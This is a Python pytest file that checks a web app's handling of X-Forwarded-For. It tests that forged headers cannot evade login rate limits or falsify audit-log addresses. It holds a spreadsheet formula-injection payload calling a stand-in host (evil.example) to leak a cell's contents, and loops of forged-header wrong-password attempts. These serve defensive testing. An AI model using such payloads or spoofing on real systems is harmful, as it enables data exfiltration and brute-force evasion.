"""An attacker cannot choose the client address that rate limits and the audit log use.

The app is served as `securemail web` serves it in production (the command's own
uvicorn options, a real socket), so the proxy-header handling under test is the one
that runs. Each client connects from an address of its own on 127.0.0.0/8: the
per-client limits and the audit rows of one test are not another's.
"""

from __future__ import annotations

import asyncio
import random
import uuid
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from typing import Any

import httpx
import pytest
import uvicorn
from sqlalchemy import func, select

import infra.logging
import workers.cli
from domain.audit import AuditAction
from infra.crypto.keys import keyset_environment
from infra.db.engine import make_engine, make_sessionmaker
from infra.db.models import RateLimitCount
from infra.rate_limits import STAFF_LOGIN_PER_CLIENT
from infra.settings import Settings, get_settings
from tests.conftest import TEST_KEYS, Browser, Office
from tests.test_compose import environment
from web.client_address import TrustedProxyScheme, resolve

# As long as the audit log's column: on PostgreSQL, one character more failed the commit.
HYPERLINK = '=HYPERLINK("https://evil.example/refund?case="&A1)'
MALFORMED = (HYPERLINK + "_" * 100)[:100]


def loopback() -> str:
    """A client address of its own (Linux answers all of 127.0.0.0/8 on the loopback)."""
    return f"127.{random.randrange(1, 255)}.{random.randrange(256)}.{random.randrange(1, 255)}"


ServeLikeProduction = Callable[[str], Any]


@pytest.fixture
def serve_like_production(
    monkeypatch: pytest.MonkeyPatch, settings: Settings
) -> Callable[[str], Any]:
    """``securemail web`` on a free port, believing X-Forwarded-For from ``trusted``."""

    @asynccontextmanager
    async def serve(trusted: str) -> AsyncIterator[str]:
        environment = {
            "SECURE_EMAIL_DATABASE_URL": settings.database_url,
            "SECURE_EMAIL_DATA_DIR": str(settings.data_dir),
            "SECURE_EMAIL_PUBLIC_URL": settings.public_url,
            **keyset_environment(TEST_KEYS.settings_fields()),
            "SECURE_EMAIL_FORWARDED_ALLOW_IPS": trusted,
        }
        for name, value in environment.items():
            monkeypatch.setenv(name, value)
        get_settings.cache_clear()
        launched: dict[str, Any] = {}
        monkeypatch.setattr(
            uvicorn, "run", lambda app, **options: launched.update(options, app=app)
        )
        # The command's logging set-up is for a process of its own, not this test run.
        monkeypatch.setattr(infra.logging, "configure_logging", lambda *_: None)
        try:
            workers.cli.web()
        finally:
            get_settings.cache_clear()
        app = launched.pop("app")
        launched.update(host="127.0.0.1", port=0)
        server = uvicorn.Server(uvicorn.Config(app, lifespan="on", **launched))
        task = asyncio.create_task(server.serve())
        while not server.started:
            if task.done():
                task.result()
            await asyncio.sleep(0.01)
        port = server.servers[0].sockets[0].getsockname()[1]
        try:
            yield f"http://127.0.0.1:{port}"
        finally:
            server.should_exit = True
            await task

    return serve


def client_from(base_url: str, address: str) -> Browser:
    return Browser(
        transport=httpx.AsyncHTTPTransport(local_address=address),
        base_url=base_url,
    )


async def failed_log_ins(office: Office) -> list[dict[str, Any]]:
    response = await office.api.get(
        "/api/v1/audit", params={"action": AuditAction.STAFF_LOG_IN_FAILED.value}
    )
    assert response.status_code == 200, response.text
    items: list[dict[str, Any]] = response.json()["items"]
    return items


async def hits_counted(settings: Settings, address: str) -> int:
    engine = make_engine(settings.database_url)
    try:
        async with make_sessionmaker(engine)() as db:
            counted = await db.scalar(
                select(func.sum(RateLimitCount.count)).where(
                    RateLimitCount.bucket == STAFF_LOGIN_PER_CLIENT.bucket(address)
                )
            )
    finally:
        await engine.dispose()
    return counted or 0


async def wrong_password(
    client: httpx.AsyncClient, email: str, forwarded_for: str
) -> httpx.Response:
    """A sign-in to ``email`` with a wrong password, sent with ``X-Forwarded-For``."""
    return await client.post(
        "/login",
        data={"email": email, "password": "guess"},
        headers={"X-Forwarded-For": forwarded_for},
    )


async def guess_until_refused(
    client: httpx.AsyncClient, forwarded_for: Callable[[int], str], already: int
) -> list[int]:
    """Wrong passwords for made-up accounts, each with another forged X-Forwarded-For,
    until one more than the client's limit (``already`` counted before)."""
    answers = []
    for attempt in range(STAFF_LOGIN_PER_CLIENT.attempts - already + 1):
        nobody = f"nobody-{uuid.uuid4().hex[:8]}@example.com"
        response = await wrong_password(client, nobody, forwarded_for(attempt))
        answers.append(response.status_code)
    return answers


# As production runs it --------------------------------------------------------------------


async def test_forged_header_from_an_untrusted_client_changes_nothing(
    serve_like_production: ServeLikeProduction, office: Office
) -> None:
    # The web service's setting as docker-compose.yml and .env.example give it.
    trusted = environment("web")["SECURE_EMAIL_FORWARDED_ALLOW_IPS"]
    attacker = loopback()
    async with serve_like_production(trusted) as base_url:
        async with client_from(base_url, attacker) as client:
            failed = await wrong_password(client, office.email, "198.51.100.23")
            assert failed.status_code == 401
            answers = await guess_until_refused(client, lambda n: f"203.0.113.{n + 1}", already=1)
    # Every forged address was the same client: its limit closed on schedule.
    assert answers[-2:] == [401, 429], answers
    [event] = await failed_log_ins(office)
    assert event["client_address"] == attacker


async def test_client_written_entry_behind_an_appending_proxy_is_ignored(
    serve_like_production: ServeLikeProduction, office: Office
) -> None:
    proxy = loopback()
    # What the proxy saw: the attacker's real address, appended after what they wrote.
    attacker = f"198.51.{random.randrange(256)}.{random.randrange(1, 255)}"
    async with serve_like_production(f"{proxy},10.0.0.0/8") as base_url:
        async with client_from(base_url, proxy) as via_proxy:
            # A load balancer in front of the proxy (10.1.2.3, also trusted) appended too.
            forwarded = f"192.0.2.66, {attacker}, 10.1.2.3"
            failed = await wrong_password(via_proxy, office.email, forwarded)
            assert failed.status_code == 401
            answers = await guess_until_refused(
                via_proxy, lambda n: f"203.0.113.{n + 1}, {attacker}", already=1
            )
            # Someone else behind the same proxy is not held back by the attacker.
            other = await wrong_password(via_proxy, office.email, "192.0.2.7")
    assert answers[-2:] == [401, 429], answers
    assert other.status_code == 401
    events = await failed_log_ins(office)
    assert [event["client_address"] for event in events] == [attacker, "192.0.2.7"]


async def test_malformed_forwarded_value_is_never_stored(
    serve_like_production: ServeLikeProduction, office: Office, settings: Settings
) -> None:
    proxy = loopback()
    async with serve_like_production(proxy) as base_url:
        async with client_from(base_url, proxy) as via_proxy:
            failed = await wrong_password(via_proxy, office.email, MALFORMED)
    # Refused as any wrong password is, with its audit row and its count kept
    # (on PostgreSQL the 100 characters used to fail the commit: a 500, neither kept).
    assert failed.status_code == 401, failed.text
    [event] = await failed_log_ins(office)
    assert event["client_address"] == proxy
    assert await hits_counted(settings, proxy) == 1
    export = await office.browser.get("/audit.csv")
    assert export.status_code == 200
    assert "HYPERLINK" not in export.text and "evil.example" not in export.text


# The rule itself ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("peer", "forwarded_for", "trusted", "expected"),
    [
        # Nobody trusted (the default): the peer, whatever the header says.
        ("192.0.2.1", ["198.51.100.9"], "", "192.0.2.1"),
        # A proxy that sets the header.
        ("10.0.0.2", ["198.51.100.9"], "10.0.0.2", "198.51.100.9"),
        # A proxy that appends: the client's own entries are to the left.
        ("10.0.0.2", ["1.2.3.4, 5.6.7.8, 198.51.100.9"], "10.0.0.2", "198.51.100.9"),
        # Two headers are one list.
        ("10.0.0.2", ["1.2.3.4", "198.51.100.9"], "10.0.0.2", "198.51.100.9"),
        # Trusted hops are skipped, networks included.
        ("10.0.0.2", ["1.2.3.4, 198.51.100.9, 10.9.9.9"], "10.0.0.0/8", "198.51.100.9"),
        # Not an address: the peer's.
        ("10.0.0.2", [MALFORMED], "10.0.0.2", "10.0.0.2"),
        ("10.0.0.2", ["198.51.100.9, unknown"], "10.0.0.2", "10.0.0.2"),
        ("10.0.0.2", [""], "10.0.0.2", "10.0.0.2"),
        ("10.0.0.2", ["fe80::1%" + "x" * 80], "10.0.0.2", "10.0.0.2"),
        ("10.0.0.2", ["198.51.100.9:"], "10.0.0.2", "10.0.0.2"),
        # Written with a port, as some load balancers do; IPv6, normalised.
        ("10.0.0.2", ["198.51.100.9:51234"], "10.0.0.2", "198.51.100.9"),
        ("10.0.0.2", ["[2001:DB8:0::9]:443"], "10.0.0.2", "2001:db8::9"),
        ("::ffff:10.0.0.2", ["2001:db8::9"], "10.0.0.2", "2001:db8::9"),
        # A dual-stack socket's IPv4 client is the IPv4 address: one client, one bucket.
        ("::ffff:192.0.2.1", [], "", "192.0.2.1"),
        # Every hop trusted: the left-most, which a trusted proxy wrote.
        ("10.0.0.2", ["10.0.0.3, 10.0.0.4"], "10.0.0.0/8", "10.0.0.3"),
        # No IP peer (a Unix socket, a test client's name): no address at all.
        (None, ["198.51.100.9"], "10.0.0.2", None),
        ("testclient", ["198.51.100.9"], "10.0.0.2", None),
    ],
)
def test_right_most_untrusted_rule(
    peer: str | None, forwarded_for: list[str], trusted: str, expected: str | None
) -> None:
    assert resolve(peer, forwarded_for, trusted) == expected


@pytest.mark.parametrize("value", ["*", "10.0.0.2,*", "proxy.internal", "10.0.0.300"])
def test_settings_refuse_trusting_everyone_or_a_typo(value: str) -> None:
    with pytest.raises(ValueError, match="SECURE_EMAIL_FORWARDED_ALLOW_IPS"):
        Settings(forwarded_allow_ips=value)


def test_compose_trusts_one_proxy_address() -> None:
    value = environment("web")["SECURE_EMAIL_FORWARDED_ALLOW_IPS"]
    settings = Settings(forwarded_allow_ips=value)
    assert settings.forwarded_allow_ips and "*" not in settings.forwarded_allow_ips


async def test_https_believed_from_the_trusted_proxy_only() -> None:
    seen: list[str] = []

    async def app(scope: Any, receive: Any, send: Any) -> None:
        seen.append(scope["scheme"])

    wrapped = TrustedProxyScheme(app, "10.0.0.2")
    for peer in ("10.0.0.2", "192.0.2.1"):
        scope = {
            "type": "http",
            "scheme": "http",
            "client": (peer, 1234),
            "headers": [(b"x-forwarded-proto", b"https")],
        }
        await wrapped(scope, None, None)  # type: ignore[arg-type]
    assert seen == ["https", "http"]
